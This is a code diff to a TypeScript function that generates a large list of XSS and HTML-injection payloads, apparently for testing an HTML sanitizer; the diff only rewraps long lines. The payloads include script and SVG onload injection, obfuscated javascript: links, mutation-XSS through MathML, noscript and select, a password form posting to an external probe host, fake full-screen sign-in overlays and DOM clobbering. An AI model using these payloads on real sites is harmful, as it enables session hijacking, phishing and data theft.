@@ -11,7 +11,9 @@ export function hostileForms(probe: string): readonly HostileForm[] {
   const run = `top.hacked=1;parent.hacked=1;window.hacked=1;fetch('${probe}/run');new Image().src='${probe}/run'`
   const attribute = run.replaceAll('"', '&quot;')
   const encoded = [...run].map((character) => `&#${String(character.charCodeAt(0))};`).join('')
-  const svg = `<svg xmlns='http://www.w3.org/2000/svg' onload='${attribute.replaceAll("'", '&#39;')}'><image href='${probe}/svg'/></svg>`
+  const svg =
+    `<svg xmlns='http://www.w3.org/2000/svg' onload='${attribute.replaceAll("'", '&#39;')}'><image ` +
+    `href='${probe}/svg'/></svg>`
   const forms: Readonly<Record<string, string>> = {
     'a script': `<script>${run}</script>`,
     'a script from elsewhere': `<script src="${probe}/x.js"></script>`,
@@ -42,13 +44,17 @@ export function hostileForms(probe: string): readonly HostileForm[] {
     'an SVG picture as data': `<img src="data:image/svg+xml;utf8,${encodeURIComponent(svg)}">`,
     'an SVG picture as base64': `<img src="data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}">`,
     'MathML with a link': `<math><maction actiontype="statusline" xlink:href="javascript:${attribute}">x</maction></math>`,
-    'mutation through MathML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=top.hacked=1&gt;">`,
+    'mutation through MathML':
+      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: ' + 'onerror=top.hacked=1&gt;">',
     'mutation through noscript': `<noscript><p title="</noscript><img src=x: onerror=top.hacked=1>">`,
     'mutation through a textarea': `<textarea></textarea><img src=x: onerror="${attribute}"></textarea>`,
     'mutation through a title': `<svg></p><title><a id="</title><img src=x: onerror=top.hacked=1>"></a></title></svg>`,
-    'mutation through a select': `<select><template><style><!--</style><a rel="--></style></template></select><img src=x: onerror=top.hacked=1>">`,
+    'mutation through a select':
+      '<select><template><style><!--</style><a rel="--></style></template></select><img src=x: ' +
+      'onerror=top.hacked=1>">',
     'a template with a script': `<template><script>${run}</script></template>`,
-    'a shadow root': `<div><template shadowrootmode="open"><img src="${probe}/shadow" onerror="${attribute}"></template></div>`,
+    'a shadow root':
+      `<div><template shadowrootmode="open"><img src="${probe}/shadow" onerror="${attribute}"></template>` + '</div>',
     'a javascript: link': `<a href="javascript:${attribute}">press</a>`,
     'a javascript: link with control characters': `<a href="java&#x0a;script:${attribute}">press</a>`,
     'a javascript: link with leading spaces': `<a href=" &#14; javascript:${attribute}">press</a>`,
@@ -93,11 +99,14 @@ export function hostileForms(probe: string): readonly HostileForm[] {
     'a refresh': `<meta http-equiv="refresh" content="0;url=${probe}/refresh">`,
     'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="${probe}/own-policy">`,
     'a base': `<base href="${probe}/"><img src="based"><a href="x">press</a>`,
-    'a form': `<form action="${probe}/form" method="post"><input name="password" type="password"><button>Sign in</button></form>`,
+    'a form':
+      `<form action="${probe}/form" method="post"><input name="password" type="password"><button>Sign ` +
+      'in</button></form>',
     'a button that submits elsewhere': `<button form="x" formaction="${probe}/formaction">press</button>`,
     'a dialog over everything': `<dialog open style="position:fixed;inset:0;z-index:9999">Your session has ended</dialog>`,
     'a cover over everything': `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Sign in again</div>`,
-    'clobbered names': `<img name="body"><form id="getElementsByTagName"></form><a id="defaultView"></a><input name="attributes">`,
+    'clobbered names':
+      '<img name="body"><form id="getElementsByTagName"></form><a id="defaultView"></a><input ' + 'name="attributes">',
     'an expression': `<p style="width:expression(${attribute})">words</p>`,
     'a binding': `<p style="-moz-binding:url(${probe}/binding);behavior:url(${probe}/behavior)">words</p>`,
     'an XML island': `<xml id="x" src="${probe}/xml"></xml><?xml-stylesheet href="${probe}/xsl"?>`,
